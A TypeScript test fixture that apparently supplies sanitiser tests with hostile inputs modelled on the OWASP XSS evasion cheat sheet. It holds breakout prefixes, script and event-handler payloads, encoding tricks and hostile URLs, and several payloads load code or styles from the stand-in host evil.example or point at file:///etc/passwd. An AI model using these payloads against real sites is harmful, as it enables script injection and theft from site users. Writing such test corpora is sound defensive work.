/** Ways to break out of the place of a text: text, attribute values, comments, scripts, styles, raw-text elements. */
const exits = [
  '',
  '">',
  "'>",
  '--><',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  ']]>',
  '\\"></',
  '&quot;>',
];

/** What a hostile outlet would like to run. */
const deeds = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<a href=javascript:alert(1) autofocus>x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><button autofocus>x</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
];

/** Attributes without a tag, encodings, and characters that confuse. */
const others = [
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus="alert(1)" x="',
  'javascript:alert(1)',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u003cscript\u003ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<\u0000script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  '<!--<script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '＜script＞alert(1)＜/script＞',
  '\ud800<script>alert(1)</script>',
  '<x onclick=alert(1)>',
  '\u0007\u001b]0;alert\u0007',
];

/** 284 texts of our own making, after the classes of the OWASP XSS filter evasion cheat sheet. */
export const hostileTexts: string[] = [
  ...exits.flatMap((exit) => deeds.map((deed) => `${exit}${deed}`)),
  ...others,
];

export const hostileUrls: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://news.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://news.example/x',
  '//evil.example/" onclick="alert(1)',
  'https://news.example/" onmouseover="alert(1)',
  "https://news.example/'><script>alert(1)</script>",
  'https://news.example/?a=1&b=<svg onload=alert(1)>',
];
